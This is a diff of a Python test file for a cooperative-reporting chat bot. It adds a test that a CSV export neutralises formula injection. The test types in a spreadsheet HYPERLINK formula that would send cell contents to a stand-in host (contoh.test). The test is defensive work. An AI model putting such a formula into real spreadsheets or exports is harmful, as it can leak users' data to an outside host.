@@ -75,7 +75,7 @@ async def play_to_review(chat: LocalChat, **over: Any) -> list[SentMessage]:
     await chat.press("Sewa")
     for answer in ("Ya", "Tidak", "Ya", "Tidak"):
         await chat.press(answer)
-    await chat.send("Membuka gerai sembako & rapat anggota <pertama>.")
+    await chat.send(over.get("kegiatan", "Membuka gerai sembako & rapat anggota <pertama>."))
     await chat.press("Modal terbatas")
     await chat.press("Kurang pendampingan/konsultasi")
     await chat.press("Selesai")
@@ -554,6 +554,26 @@ async def test_export_csv_has_a_row_per_cooperative(
     empty = next(r for r in rows if r["kode_wilayah"] == "36.73.01.1008")
     assert empty["status_operasional"] == ""
     assert empty["nama_koperasi"] == "Koperasi Kelurahan Merah Putih Sukawana"
+
+
+async def test_export_csv_keeps_typed_formulas_as_text(
+    registry_loaded: Core, chats: Chats, tmp_path: Path
+) -> None:
+    """A text answer that a spreadsheet would run as a formula (CSV injection) is exported with
+    a leading apostrophe, so it shows as typed; numbers stay numbers."""
+    from bot.export import write_csv
+    from bot.periods import Period
+
+    chat = await linked(registry_loaded, chats)
+    typed = '=HYPERLINK("http://contoh.test/?"&A1,"Klik")'
+    await play_to_review(chat, kegiatan=typed)
+    await chat.press("Kirim")
+    out = tmp_path / "oktober.csv"
+    await write_csv(registry_loaded, Period(2026, 10), out)
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        (row,) = [r for r in csv.DictReader(handle) if r["revisi"]]
+    assert row["kegiatan"] == "'" + typed
+    assert row["jumlah_anggota"] == "120"
 
 
 async def test_two_members_pressing_kirim_at_the_same_moment_both_count(
